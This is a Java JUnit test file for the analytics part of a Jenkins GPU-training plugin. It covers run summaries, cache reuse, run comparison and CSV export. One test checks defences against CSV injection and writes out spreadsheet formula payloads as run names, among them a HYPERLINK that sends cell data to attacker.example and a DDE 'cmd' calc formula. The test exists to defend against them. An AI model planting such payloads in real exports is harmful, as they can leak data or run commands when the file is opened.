package io.jenkins.plugins.gputraining.model.analytics;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.gputraining.model.fixtures.RunFixture;
import io.jenkins.plugins.gputraining.model.progress.MetricRecord;
import io.jenkins.plugins.gputraining.model.progress.RunDirectory;
import io.jenkins.plugins.gputraining.model.progress.RunStatus;
import io.jenkins.plugins.gputraining.model.progress.RunWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SummaryAndComparisonTest {
    @TempDir
    Path root;

    private final Clock clock = Clock.fixed(RunFixture.at(500), ZoneOffset.UTC);
    private final RunAnalyzer analyzer = new RunAnalyzer(clock, AlertThresholds.defaults());

    /**
     * A run whose throughput (samples/s) and GPU utilisation make its scores easy to work out: one record a second
     * from t=2 reporting the rates; each rate covers the second since the one before, so the first rate only opens
     * the measurement (a run with a single record reports that rate).
     */
    private RunFixture run(final String id, final double seconds, final double utilization, final double loss,
                           final double... rates) {
        RunFixture run = RunFixture.run(root, id).endedAt(seconds).loss(1, 1, loss * 2);
        for (int i = 0; i < rates.length; i++) {
            run.metric(2 + i, 2L + i, loss, rates[i], null);
        }
        // Two 100 W samples a second apart: 100 J, 0.0278 Wh.
        return run.gpu(1, utilization, 100, 50, 100).gpu(2, utilization, 100, 50, 100);
    }

    @Test
    void summarisesRunsOfEveryStatus() throws IOException {
        run("a", 100, 80, 0.5, 100, 100).write();               // scores 80 and 100: overall 90
        run("b", 300, 60, 0.4, 50, 50, 100).write();                // scores 60 and 75: overall 67.5
        run("c", 50, 40, 0.9, 10).status(RunStatus.FAILED, 1).write();  // scores 40 and 100: overall 70
        run("d", 0, 100, 0.3, 200).status(RunStatus.RUNNING, null).write(); // 500 s so far; overall 100
        Files.createDirectories(root.resolve("e"));
        Files.writeString(root.resolve("e/progress.json"), "{broken");

        Summary summary = new AnalyticsCache(analyzer, clock).summarize(RunDirectory.list(root));

        assertThat(summary.totalRuns()).isEqualTo(4);
        assertThat(summary.runsByStatus()).containsExactly(
                org.assertj.core.api.Assertions.entry("running", 1), org.assertj.core.api.Assertions.entry("paused", 0),
                org.assertj.core.api.Assertions.entry("completed", 2), org.assertj.core.api.Assertions.entry("failed", 1),
                org.assertj.core.api.Assertions.entry("cancelled", 0),
                org.assertj.core.api.Assertions.entry("interrupted", 0));
        assertThat(summary.averageDurationSeconds()).as("finished runs only").isEqualTo(150.0);
        assertThat(summary.totalTrainingSeconds()).isEqualTo(950.0);
        assertThat(summary.averageThroughputSamplesPerSec()).isEqualTo((100 + 75 + 10 + 200) / 4.0);
        assertThat(summary.topPerformingRuns()).extracting(TopRun::runId).containsExactly("d", "a", "c", "b");
        assertThat(summary.topPerformingRuns().get(1).overallScore()).isEqualTo(90.0);
        assertThat(summary.resourceTrends().averageGpuUtilizationPercent()).isEqualTo(70.0);
        assertThat(summary.resourceTrends().peakGpuMemoryMb()).isEqualTo(100.0);
        assertThat(summary.resourceTrends().recentRuns()).hasSize(4);
        assertThat(summary.unreadableRuns()).singleElement().asString().startsWith("e: ").contains("not valid JSON");
    }

    @Test
    void listsAtMostFiveTopRuns() {
        for (int i = 0; i < 7; i++) {
            run("r" + i, 10, 10 * i, 1, 100).write();
        }

        Summary summary = new AnalyticsCache(analyzer, clock).summarize(RunDirectory.list(root));

        assertThat(summary.topPerformingRuns()).extracting(TopRun::runId).containsExactly("r6", "r5", "r4", "r3", "r2");
    }

    @Test
    void reusesCachedAnalyticsUntilARunChanges() throws IOException {
        RunDirectory live = run("live", 0, 50, 1, 100).status(RunStatus.RUNNING, null).write();
        RunDirectory done = run("done", 10, 50, 1, 100).write();
        AnalyticsCache cache = new AnalyticsCache(analyzer, clock);

        RunAnalytics first = cache.analytics(done);
        RunAnalytics firstLive = cache.analytics(live);
        assertThat(cache.analytics(done)).isSameAs(first);
        assertThat(cache.analytics(live)).isSameAs(firstLive);

        try (RunWriter writer = RunWriter.open(live.path())) {
            writer.appendMetric(MetricRecord.of(RunFixture.T0 + 9, 9, 0.01));
        }
        assertThat(cache.analytics(live)).isNotSameAs(firstLive);
        assertThat(cache.analytics(live).losses().finalLoss()).isEqualTo(0.01);
    }

    @Test
    void rechecksAFinishedRunAtMostOncePerInterval() throws IOException {
        MutableClock time = new MutableClock(RunFixture.at(500));
        AnalyticsCache cache = new AnalyticsCache(analyzer, time);
        RunDirectory done = run("done", 10, 50, 1, 100).write();
        RunAnalytics first = cache.analytics(done);

        run("done", 20, 50, 1, 100).status(RunStatus.FAILED, 1).write();
        assertThat(cache.analytics(done)).as("within the interval").isSameAs(first);

        time.advance(AnalyticsCache.FINISHED_RECHECK_MILLIS);
        assertThat(cache.analytics(done).status()).isEqualTo("failed");
    }

    /** A clock the test moves by hand. */
    private static final class MutableClock extends Clock {
        private java.time.Instant now;

        MutableClock(final java.time.Instant start) {
            now = start;
        }

        void advance(final long millis) {
            now = now.plusMillis(millis);
        }

        @Override
        public java.time.ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(final java.time.ZoneId zone) {
            return this;
        }

        @Override
        public java.time.Instant instant() {
            return now;
        }
    }

    @Test
    void comparesRunsAndPicksAWinnerPerCategory() {
        List<RunAnalytics> runs = new ArrayList<>();
        runs.add(analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).write()));
        runs.add(analyzer.analyze(run("b", 300, 60, 0.4, 50, 50, 100).write()));
        runs.add(analyzer.analyze(run("c", 50, 40, 0.9, 10).status(RunStatus.FAILED, 1).write()));

        Comparison comparison = ComparisonCalculator.compare(runs);

        assertThat(comparison.jobs()).extracting(ComparedRun::runId).containsExactly("a", "b", "c");
        assertThat(comparison.jobs().get(1)).isEqualTo(new ComparedRun("b", "run b", "completed", 75.0, 300.0, 60.0,
                0.4, 0.4, 0.0278, 67.5));
        assertThat(comparison.winner()).isEqualTo(new Winners("a", "b", "a", "a"));
    }

    @Test
    void leavesARunWithoutTheMetricOutOfThatCategoryAndGivesTiesToTheFirst() {
        List<RunAnalytics> runs = new ArrayList<>();
        runs.add(analyzer.analyze(RunFixture.run(root, "no-data").endedAt(5).write()));
        runs.add(analyzer.analyze(run("x", 20, 50, 0.5, 100).write()));
        runs.add(analyzer.analyze(run("y", 20, 50, 0.5, 100).write()));

        Comparison comparison = ComparisonCalculator.compare(runs);

        assertThat(comparison.winner()).isEqualTo(new Winners("x", "x", "no-data", "x"));
        assertThat(ComparisonCalculator.compare(List.of(runs.get(0))).winner())
                .isEqualTo(new Winners(null, null, "no-data", null));
    }

    @Test
    void exportsTheComparisonAsCsvWithTheWinners() {
        Comparison comparison = ComparisonCalculator.compare(List.of(
                analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).write()),
                analyzer.analyze(run("b,\"quoted\"", 300, 60, 0.4, 50, 50, 100).write())));

        String csv = AnalyticsCsv.comparison(comparison);

        assertThat(csv.lines()).containsExactly(
                "job_id,name,status,throughput,duration_seconds,gpu_utilization,final_loss,best_loss,energy_wh,"
                        + "overall_score,winner_of",
                "a,run a,completed,100.0,100.0,80.0,0.5,0.5,0.0278,90.0,best_throughput fastest most_efficient",
                "\"b,\"\"quoted\"\"\",\"run b,\"\"quoted\"\"\",completed,75.0,300.0,60.0,0.4,0.4,0.0278,67.5,best_loss");
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
        // CSV injection (OWASP): a run named like a formula, opened in a spreadsheet, must read as text.
        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
        Comparison comparison = ComparisonCalculator.compare(List.of(
                analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).name(formula).write()),
                analyzer.analyze(run("b", 300, 60, 0.4, 50, 100).name("+1+cmd|' /C calc'!A0").write()),
                analyzer.analyze(run("c", 300, 60, 0.4, 50, 100).name("-2+3").write()),
                analyzer.analyze(run("d", 300, 60, 0.4, 50, 100).name("@SUM(1)").write()),
                analyzer.analyze(run("e", 300, 60, 0.4, 50, 100).name("\t=1").write()),
                analyzer.analyze(run("f", 300, 60, 0.4, 50, 100).name("\r=1").write())));

        List<String> names = readColumn(AnalyticsCsv.comparison(comparison), "name");

        assertThat(names).containsExactly("'" + formula, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\t=1",
                "'\n=1");
        assertThat(readColumn(AnalyticsCsv.flattened(analyzer.analyze(run("g", 100, 80, 0.5, 100).name(formula)
                .write())), "value")).contains("'" + formula).doesNotContain(formula);
        assertThat(AnalyticsCsv.flattened(analyzer.analyze(run("h", 100, 80, -0.5, 100).write())).lines())
                .as("numbers stay numbers, negative ones too").contains("losses.final,-0.5");
    }

    private static List<String> readColumn(final String csv, final String column) {
        try (com.fasterxml.jackson.databind.MappingIterator<java.util.Map<String, String>> rows =
                     new com.fasterxml.jackson.dataformat.csv.CsvMapper()
                             .readerFor(java.util.Map.class)
                             .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
                             .readValues(csv)) {
            List<String> values = new ArrayList<>();
            while (rows.hasNext()) {
                values.add(rows.next().get(column));
            }
            return values;
        }
        catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void flattensRunAnalyticsToKeyValueCsv() {
        RunAnalytics analytics = analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).write());

        String csv = AnalyticsCsv.flattened(analytics);

        assertThat(csv.lines()).first().isEqualTo("key,value");
        assertThat(csv.lines()).contains("job_id,a", "duration.total_seconds,100.0", "losses.final,0.5",
                "efficiency.overall_score,90.0", "resource_utilization.energy_wh,0.0278", "performance.total_samples,");
    }
}
